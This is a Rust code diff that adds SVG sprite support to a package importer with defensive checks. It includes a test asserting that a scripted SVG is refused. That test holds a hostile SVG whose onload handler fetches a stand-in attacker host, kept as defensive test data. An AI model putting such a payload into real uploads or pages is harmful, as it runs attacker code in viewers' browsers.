@@ -2,8 +2,9 @@
 //!
 //! Import is defensive: names that climb out of the package (`..`, absolute, drive letters),
 //! encrypted entries, too many entries, too many bytes or a suspicious compression ratio
-//! refuse the whole package; sprites must be real PNG, WebP, GIF or JPEG images with plain
-//! file names. Entries the format does not define are skipped with a warning.
+//! refuse the whole package; sprites must be real PNG, WebP, GIF or JPEG images, or plain SVG
+//! drawings (checked by [`crate::svg`]), with plain file names. Entries the format does not
+//! define are skipped with a warning.
 
 use std::io::{Cursor, Read, Write};
 
@@ -198,6 +199,14 @@ pub fn check_sprite(sprite: &Sprite, max_bytes: u64) -> Result<(), RoomError> {
     if sprite.bytes.len() as u64 > max_bytes {
         return Err(bad(&format!("it is larger than {max_bytes} bytes")));
     }
+    if crate::svg::looks_like_svg(&sprite.bytes) {
+        // Owner art: plain drawing only (no script, no outside reference, no entities).
+        return crate::svg::check_svg(&sprite.bytes).map_err(|refusal| RoomError::BadSvg {
+            name: sprite.name.clone(),
+            code: refusal.code,
+            reason: refusal.reason,
+        });
+    }
     match image::guess_format(&sprite.bytes) {
         Ok(
             image::ImageFormat::Png
@@ -205,13 +214,34 @@ pub fn check_sprite(sprite: &Sprite, max_bytes: u64) -> Result<(), RoomError> {
             | image::ImageFormat::Gif
             | image::ImageFormat::Jpeg,
         ) => Ok(()),
-        _ => Err(bad("it is not a PNG, WebP, GIF or JPEG image")),
+        _ => Err(bad("it is not a PNG, WebP, GIF, JPEG or SVG image")),
     }
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_plain_svg_sprite_travels_and_a_scripted_one_is_refused_with_its_code() {
+        let room = crate::template("cozy").unwrap();
+        let lamp = Sprite {
+            name: "lamp.svg".into(),
+            bytes: br##"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 20 30"><circle cx="10" cy="10" r="8" fill="#fd4"/></svg>"##.to_vec(),
+        };
+        let unpacked = unpack(
+            &pack(&room, std::slice::from_ref(&lamp)).unwrap(),
+            &Limits::default(),
+        )
+        .unwrap();
+        assert_eq!(unpacked.sprites, vec![lamp]);
+        let hostile = Sprite {
+            name: "lamp.svg".into(),
+            bytes: br#"<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('https://evil.example')"/>"#.to_vec(),
+        };
+        let err = pack(&room, &[hostile]).unwrap_err();
+        assert_eq!(err.code(), "svg.script", "{err}");
+    }
 
     /// An endless stream of zeros, as a bomb's inflater gives, counting what was pulled.
     struct Endless(u64);
